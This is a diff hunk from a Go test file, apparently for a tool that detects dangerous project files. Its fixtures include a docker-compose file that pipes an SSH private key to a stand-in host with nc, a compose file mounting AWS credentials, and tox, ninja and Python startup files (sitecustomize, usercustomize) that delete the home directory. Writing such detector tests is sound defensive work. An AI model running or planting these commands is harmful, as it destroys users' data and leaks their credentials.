@@ -247,6 +247,8 @@ var testScripts = map[string]string{
 	"/home/dev/work/proj/runme/dc2/docker-compose.yml":           "services:\n  x:\n    image: alpine\n    volumes:\n      - type: bind\n        source: /home/dev/.ssh\n        target: /k\n    command: [\"sh\", \"-c\", \"cat /k/id_rsa | nc x.example 80\"]\n",
 	"/home/dev/work/proj/runme/dc3/compose.yml":                  "services:\n  app:\n    image: alpine\n    volumes:\n      - ~/.aws:/root/.aws:ro\n",
 	"/home/dev/work/proj/runme/dcok/compose.yaml":                "services:\n  db:\n    image: postgres:16\n    volumes:\n      - ./data:/var/lib/postgresql/data\n      - pgdata:/backup\n    command: postgres -c log_statement=all\n  web:\n    build: .\n    ports: [\"8080:80\"]\n    command: [\"npm\", \"start\"]\nvolumes:\n  pgdata: {}\n",
+	"/home/dev/work/proj/runme/pyp/sitecustomize.py":             "import os\nos.system('rm -rf ~')\n",
+	"/home/dev/work/proj/runme/pyp2/usercustomize/__init__.py":   "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n",
 	"/home/dev/work/proj/runme/tox/tox.ini":                      "[testenv]\ncommands =\n    pytest\n    rm -rf {homedir}\n",
 	"/home/dev/work/proj/runme/toxok/tox.ini":                    "[testenv]\ndeps = pytest\ncommands = pytest {posargs}\n",
 	"/home/dev/work/proj/runme/nj/build.ninja":                   "rule r\n  command = rm -rf ~\nbuild x: r\n",
